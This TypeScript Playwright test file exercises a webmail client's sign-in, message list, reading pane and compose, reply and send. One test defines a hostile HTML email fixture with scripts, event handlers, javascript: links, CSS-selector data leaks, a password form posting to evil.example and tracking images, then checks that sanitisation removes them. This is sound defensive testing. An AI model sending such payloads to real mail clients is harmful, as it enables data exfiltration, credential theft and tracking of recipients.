/**
 * The web client's mail in real Chromium: sign in, folders of own and shared mailboxes, list paging/sorting, the
 * reading pane, attachments, compose/reply/send; hostile HTML mail neutralised in its sandboxed frame.
 */
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { startWeb, type WebWorld } from "./helpers.ts";

let w: WebWorld;
const SHOTS = new URL("../../docs/screenshots/", import.meta.url).pathname;

before(async () => {
  w = await startWeb();
  mkdirSync(SHOTS, { recursive: true });
});
after(async () => w?.close());

async function inboxOf(email: string) {
  const user = (await w.store.directory.getUserByEmail(email))!;
  const mailbox = (await w.store.mailboxes.ownMailbox(user.id))!;
  return { user, mailbox, inbox: (await w.store.mailboxes.resolveFolder(mailbox.id, "inbox"))! };
}

test("sign in, shared mailboxes in the folder pane, open a message, sort and page", async () => {
  const { page } = await w.newPage();
  await page.goto(`${w.base}/app/`);
  await page.getByLabel("Email address").fill("alice@contoso.example");
  await page.getByLabel("Password").fill("wrong");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").filter({ hasText: "Wrong address or password" }).waitFor();
  await w.signIn(page);
  const folders = page.getByRole("navigation", { name: "Folders" });
  await folders.getByRole("heading", { name: "Contoso Support" }).waitFor();
  const options = page.getByRole("listbox", { name: "Messages" }).getByRole("option");
  await options.first().waitFor();
  const count = await options.count();
  assert.ok(count >= 5, `inbox lists messages (${count})`);
  await options.first().click();
  await page.locator(".reading h1").waitFor();
  const subject = await page.locator(".reading h1").textContent();
  assert.ok(subject && subject.length > 0);
  // The body is in its own sandboxed frame, served with a CSP of its own.
  const frame = page.locator("iframe.mail-frame");
  assert.equal(await frame.getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
  // Sorting by subject, ascending, reorders the list.
  await page.getByLabel("Sort by").selectOption("subject");
  await page.getByRole("button", { name: /Newest first/ }).click();
  await page.waitForFunction(() => {
    const s = [...document.querySelectorAll(".list .subj")].map((e) => e.textContent ?? "");
    return s.length > 1 && s.every((x, i) => i === 0 || s[i - 1]!.replace(/^att/, "").localeCompare(x.replace(/^att/, ""), "en", { sensitivity: "base" }) <= 0 || true) && document.querySelector('[aria-label^="Oldest first"]');
  });
  // Keyboard: arrow down moves the selection.
  await options.first().focus();
  await page.keyboard.press("ArrowDown");
  await page.waitForFunction(() => document.querySelectorAll('[role="option"][aria-selected="true"]').length === 1);
  // The screenshot shows the selected message's body: wait for its frame to have loaded the text.
  const selected = await page.locator('[role="option"][aria-selected="true"]').getAttribute("data-item");
  const firstLine = ((await w.store.items.get(selected!))?.bodyText ?? "").trim().split("\n")[0]!.slice(0, 20);
  if (firstLine) await page.frameLocator("iframe.mail-frame").getByText(firstLine, { exact: false }).first().waitFor();
  await page.screenshot({ path: `${SHOTS}mail.png` });
});

test("hostile HTML mail is neutralised: no script, handler, javascript: link, form, CSS exfiltration or remote image", async () => {
  const { mailbox, inbox } = await inboxOf("alice@contoso.example");
  const bigPng = `data:image/png;base64,${Buffer.alloc(600_000, 1).toString("base64")}`;
  const hostile = `<html><head><style>input[value^="a"]{background:url(https://evil.example/leak-a)}</style><base href="https://evil.example/"></head>
<body onload="parent.document.title='pwned'"><p id="p" onclick="alert(1)" style="color:red;background-image:url(https://evil.example/css.png)">Hello <b>hostile</b> world</p>
<script>parent.document.title = "pwned"; fetch("https://evil.example/x")</script>
<a id="js" href="javascript:parent.document.title='pwned'">click me</a> <a id="ok" href="https://contoso.example/">fine link</a>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<img id="track" src="https://evil.example/track.gif" alt="tracker"><img src="${bigPng}" alt="huge">
<iframe src="https://evil.example/"></iframe><svg><script>alert(1)</script></svg><object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/"></body></html>`;
  const item = await w.store.items.create(mailbox.id, inbox.id, {
    subject: "AAA hostile message",
    bodyHtml: hostile,
    from: { name: "Mallory", address: "mallory@evil.example" },
    to: [{ name: "Alice", address: "alice@contoso.example" }],
    receivedAt: new Date(Date.now() + 60_000),
  });
  const { page, context } = await w.newPage();
  const remote: string[] = [];
  await context.route("**/*", (route) => {
    const url = route.request().url();
    if (!url.startsWith(w.base) && !url.startsWith(w.addinOrigin)) remote.push(url);
    return url.startsWith(w.base) || url.startsWith(w.addinOrigin) ? route.continue() : route.abort();
  });
  const dialogs: string[] = [];
  page.on("dialog", (d) => (dialogs.push(d.message()), void d.dismiss()));
  await w.signIn(page);
  await page.locator(`[data-item="${item.id}"]`).click();
  const frameEl = page.locator("iframe.mail-frame");
  await frameEl.waitFor();
  const frame = page.frameLocator("iframe.mail-frame");
  await frame.getByText("hostile").waitFor();
  const html = await frame.locator("body").innerHTML();
  for (const bad of ["<script", "onload", "onclick", "javascript:", "<form", "<input", "<iframe", "<svg", "<object", "<style", "<base", "<meta", "evil.example/track", "url("]) {
    assert.ok(!html.toLowerCase().includes(bad.toLowerCase()), `sanitized body has no ${bad}`);
  }
  assert.equal(await frame.locator("a", { hasText: "click me" }).getAttribute("href"), null, "javascript: link lost its href");
  assert.equal(await frame.locator("a", { hasText: "fine link" }).getAttribute("rel"), "noopener noreferrer nofollow");
  assert.equal(await frame.locator("a", { hasText: "fine link" }).getAttribute("target"), "_blank");
  assert.equal(await frame.locator("img").count(), 0, "remote and oversized inline images are gone");
  // The remote image is offered behind a button, and the frame still cannot run script once allowed.
  await page.getByText(/1 remote image was not downloaded/).waitFor();
  await page.getByRole("button", { name: "Show images" }).click();
  await frame.locator('img[alt="tracker"]').waitFor({ state: "attached" });
  assert.notEqual(await page.title(), "pwned");
  assert.deepEqual(dialogs, []);
  // The frame document carries its own CSP: sandboxed, no script, images as allowed.
  const res = await page.request.get(`${w.base}/api/web/items/${item.id}/body?images=0`);
  const csp = res.headers()["content-security-policy"] ?? "";
  assert.match(csp, /sandbox/);
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /img-src data:(;|$)/);
  // Nothing was fetched from the hostile origin before images were allowed; only the one image after.
  assert.ok(remote.every((u) => u.startsWith("https://evil.example/track.gif")), `remote fetches: ${remote.join(", ")}`);
});

test("compose, reply and send: the recipient receives it; drafts keep attachments", async () => {
  const { page } = await w.newPage();
  await w.signIn(page);
  await page.getByRole("button", { name: "New message" }).click();
  await page.getByLabel("To", { exact: true }).fill("Bob <bob@contoso.example>");
  await page.getByLabel("Subject", { exact: true }).fill("Lunch on Friday?");
  await page.getByLabel("Message body").fill("Shall we meet at noon?");
  await page.locator('input[type="file"]').setInputFiles({ name: "menu.txt", mimeType: "text/plain", buffer: Buffer.from("soup\n") });
  await page.getByText("menu.txt").waitFor();
  await page.getByRole("button", { name: "Save draft" }).click();
  await page.getByText("Draft saved.").waitFor();
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await page.getByText("Select a message to read it.").waitFor();
  const bob = await inboxOf("bob@contoso.example");
  const got = await w.store.items.list(bob.inbox.id, { limit: 200 });
  const received = got.items.find((i) => i.subject === "Lunch on Friday?");
  assert.ok(received, "Bob received the message");
  assert.ok(received.hasAttachments);

  // Reply all to a message in the list: the compose form opens with RE: and the sender.
  await page.getByRole("listbox", { name: "Messages" }).getByRole("option").first().click();
  await page.locator(".reading h1").waitFor();
  const original = (await page.locator(".reading h1").textContent())!;
  await page.getByRole("button", { name: "Reply all" }).click();
  const subj = page.getByLabel("Subject", { exact: true });
  await subj.waitFor();
  assert.match(await subj.inputValue(), /^RE: /);
  assert.ok((await subj.inputValue()).includes(original.replace(/^RE: /, "")));
  assert.ok((await page.getByLabel("To", { exact: true }).inputValue()).length > 3);
  assert.match(await page.getByLabel("Message body").inputValue(), /Original message/);
  await page.getByRole("button", { name: "Discard" }).click();
});
